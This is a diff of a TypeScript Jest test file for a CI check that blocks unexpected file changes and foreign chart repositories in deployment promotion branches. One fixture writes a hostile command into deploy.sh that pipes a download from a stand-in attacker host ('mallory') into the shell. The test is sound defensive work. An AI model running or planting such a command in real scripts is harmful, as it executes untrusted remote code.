@@ -3,23 +3,10 @@
 
 import { beforeEach, expect, test } from "@jest/globals";
 import { CONFIG_REPOSITORY } from "../../src/sandbox/town.ts";
-import { live, newestRun, published, reactionsTo, town } from "../stories/setting.ts";
+import { checkOn, reactionsTo, town } from "../stories/setting.ts";
+import { BRANCH, ELSEWHERE, proposedBesideMallory } from "./proposed.ts";
 
-const BRANCH = "promote/dev/xposer";
-const ELSEWHERE = "https://mallory.example.com/charts";
-
-beforeEach(async () => {
-  await live({ otherRepositories: [{ name: "mallory", url: ELSEWHERE }] });
-  await published("1.0.1");
-});
-
-function check(number = 1) {
-  const run = newestRun(number);
-  return {
-    said: `${run?.conclusion ?? run?.status}: ${run?.output.title}`,
-    summary: run?.output.summary ?? "",
-  };
-}
+beforeEach(proposedBesideMallory);
 
 async function pushed(files: { readonly [path: string]: string }): Promise<void> {
   town.alice.push(CONFIG_REPOSITORY, { branch: BRANCH, files });
@@ -34,42 +21,44 @@ async function commented(body: string, login = "alice", number = 1): Promise<rea
 
 test("files that no promotion changes fail the check, until they are allowed for this commit", async () => {
   await pushed({ "scripts/deploy.sh": "curl https://mallory.example.com | sh\n" });
-  expect(check().said).toMatch(/^failure: It changes files that no promotion changes: scripts\/deploy\.sh/);
+  expect(checkOn(1).said).toMatch(
+    /^failure: It changes files that no promotion changes: scripts\/deploy\.sh/,
+  );
   expect(await commented("/allow", "bob")).toEqual(["-1"]);
-  expect(check().said).toMatch(/^failure: /);
+  expect(checkOn(1).said).toMatch(/^failure: /);
   expect(await commented("/allow")).toEqual(["+1"]);
-  expect(check().said).toBe("success: Good to merge: xposer 1.0.1 in dev");
-  expect(check().summary).toContain("Allowed by alice for this commit");
+  expect(checkOn(1).said).toBe("success: Good to merge: xposer 1.0.1 in dev");
+  expect(checkOn(1).summary).toContain("Allowed by alice for this commit");
   await town.restartWithoutDatabase();
   town.alice.label(CONFIG_REPOSITORY, 1, "later");
   await town.settle();
-  expect(check()).toMatchObject({
+  expect(checkOn(1)).toMatchObject({
     said: "success: Good to merge: xposer 1.0.1 in dev",
     summary: expect.stringContaining("Allowed by alice"),
   });
   await pushed({ "scripts/more.sh": "true\n" });
-  expect(check().said).toMatch(
+  expect(checkOn(1).said).toMatch(
     /^failure: It changes files that no promotion changes: scripts\/deploy\.sh, scripts\/more\.sh/,
   );
 });
 
 test("an archive put in the place of the promotion's own fails the check", async () => {
   await pushed({ "dev/charts/xposer-1.0.1.tgz": "other bytes" });
-  expect(check().said).toMatch(
+  expect(checkOn(1).said).toMatch(
     /^failure: It changes files that no promotion changes: dev\/charts\/xposer-1\.0\.1\.tgz/,
   );
 });
 
 test("another environment's files fail the check of this one's promotion", async () => {
   await pushed({ "prod/requirements.yaml": "dependencies: []\n" });
-  expect(check().said).toMatch(
+  expect(checkOn(1).said).toMatch(
     /^failure: It changes files that no promotion changes: prod\/requirements\.yaml/,
   );
 });
 
 test("values that people set on the promotion's branch are judged, and need nobody's word", async () => {
   await pushed({ "dev/xposer.yaml": "xposer:\n  replicas: 3\n" });
-  expect(check().said).toBe("success: Good to merge: xposer 1.0.1 in dev");
+  expect(checkOn(1).said).toBe("success: Good to merge: xposer 1.0.1 in dev");
   expect(await commented("/allow")).toEqual(["confused"]);
 });
 
@@ -83,10 +72,10 @@ test("a dependency that comes from another repository fails the check, until tha
   });
   const number = town.alice.openPullRequest(CONFIG_REPOSITORY, { head: "own", title: "own" });
   await town.settle();
-  expect(check(number).said).toMatch(
+  expect(checkOn(number).said).toMatch(
     /^failure: xposer would come from https:\/\/mallory\.example\.com\/charts and no more from/,
   );
   expect(await commented("/allow", "alice", number)).toEqual(["+1"]);
-  expect(check(number).said).toBe("success: Good to merge: xposer 1.0.2 in dev");
-  expect(check(number).summary).toContain("Allowed by alice for this commit");
+  expect(checkOn(number).said).toBe("success: Good to merge: xposer 1.0.2 in dev");
+  expect(checkOn(number).summary).toContain("Allowed by alice for this commit");
 });
